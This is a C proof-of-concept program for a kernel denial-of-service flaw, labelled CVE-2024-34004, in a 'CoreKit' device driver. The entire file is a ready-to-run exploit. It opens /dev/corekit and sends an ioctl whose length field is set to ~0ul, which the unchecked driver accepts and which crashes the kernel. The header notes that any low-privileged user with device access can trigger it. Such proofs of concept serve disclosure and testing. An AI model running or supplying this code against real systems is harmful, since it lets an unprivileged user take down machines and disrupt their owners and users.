/*
 * PoC for the denial of service half of CVE-2024-34004.
 *
 * The CoreKit profile device accepts a length field without bounds
 * checking; an oversized value crashes the kernel on the next page
 * fault. Any low-privileged user with access to /dev/corekit can
 * trigger it. This program only demonstrates the fault, nothing more.
 */

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define CK_IOC_STAGE 0x4b01

struct ck_stage_req {
    unsigned long length;
    char name[64];
};

int main(void) {
    int fd = open("/dev/corekit", O_RDWR);
    if (fd < 0) {
        perror("open /dev/corekit");
        return 1;
    }

    struct ck_stage_req req;
    memset(&req, 0, sizeof req);
    req.length = ~0ul; /* absurd length the driver trusts verbatim */
    strncpy(req.name, "fixture", sizeof req.name - 1);

    int rc = ioctl(fd, CK_IOC_STAGE, &req);
    printf("ioctl returned %d (machine likely gone by now)\n", rc);
    close(fd);
    return 0;
}
